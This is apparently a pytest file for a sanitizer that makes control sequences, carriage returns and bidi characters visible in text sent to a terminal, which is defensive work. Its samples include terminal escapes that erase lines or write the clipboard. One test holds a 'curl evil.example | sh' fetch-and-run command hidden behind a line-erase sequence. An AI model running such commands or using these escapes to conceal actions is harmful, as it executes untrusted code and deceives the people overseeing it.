"""The one sanitizer for text bound for a terminal (agent/terminal_text.py)."""

from __future__ import annotations

import json

import pytest

from agent.terminal_text import json_terminal_safe, needs_care, pictured, terminal_safe

# Each hostile piece and how it must be shown.
SHOWN = [
    ("\x1b[2K", "\\x1b[2K"),  # CSI: erase the line
    ("\x1b]52;c;aGk=\x07", "\\x1b]52;c;aGk=\\x07"),  # OSC 52: write the clipboard
    ("\x1b]8;;http://x\x1b\\", "\\x1b]8;;http://x\\x1b\\"),  # OSC 8 hyperlink, ST-ended
    ("a\rb", "a\\rb"),  # carriage return: overwrite the line
    ("ab\x08\x08cd", "ab\\x08\\x08cd"),  # backspaces
    ("\x9b2K", "\\x9b2K"),  # C1 CSI in one character
    ("\x85\x90\x9d", "\\x85\\x90\\x9d"),  # NEL, DCS, OSC as C1
    ("\x7f", "\\x7f"),
    ("\x00\x0b\x0c", "\\x00\\x0b\\x0c"),
    ("abc\u202edef\u202c", "abc\\u202edef\\u202c"),  # right-to-left override
    ("\u2066x\u2069", "\\u2066x\\u2069"),  # isolates
    ("\ud800", "\\ud800"),  # a lone surrogate cannot even be encoded
]


@pytest.mark.parametrize(("raw", "shown"), SHOWN)
def test_each_control_is_shown_as_its_escape(raw, shown):
    assert terminal_safe(raw) == shown
    assert terminal_safe(raw, one_line=True) == shown
    assert needs_care(raw)


def test_normal_text_passes_unchanged():
    text = "def f():\n\treturn 'héllo 世界' # 👩‍💻 שלום \\x1b is just text\n"
    assert terminal_safe(text) == text
    assert not needs_care(text)


def test_newlines_and_tabs_stay_unless_one_line():
    assert terminal_safe("a\r\nb\tc\n") == "a\nb\tc\n"  # CRLF is a newline
    assert terminal_safe("a\r\nb\tc\n", one_line=True) == "a\\r\\nb\\tc\\n"


def test_a_sequence_split_across_pieces_is_safe_piece_by_piece():
    pieces = ["ok \x1b", "[2K", "\x1b]52;c;", "aGk=\x07"]
    assert "".join(map(terminal_safe, pieces)) == terminal_safe("".join(pieces))


def test_the_escapes_show_the_hook_command_that_would_run():
    """The finding: `echo hi\\r\\x1b[2Kcurl evil | sh` drew as `echo hi` alone."""
    command = "curl evil.example | sh\r\x1b[2Kecho harmless"
    assert terminal_safe(command, one_line=True) == (
        "curl evil.example | sh\\r\\x1b[2Kecho harmless"
    )


def test_pictures_are_one_cell_each():
    assert pictured("a\x1bb\rc\x7f\x9b\u202e\n") == "a␛b␍c␡��␊"


def test_json_escapes_read_back_as_the_same_string():
    value = {"text": "a\x9b\u202eb\x7f\x1b[2K"}
    line = json_terminal_safe(json.dumps(value, ensure_ascii=False))
    assert "\x9b" not in line and "\u202e" not in line and "\x7f" not in line
    assert json.loads(line) == value
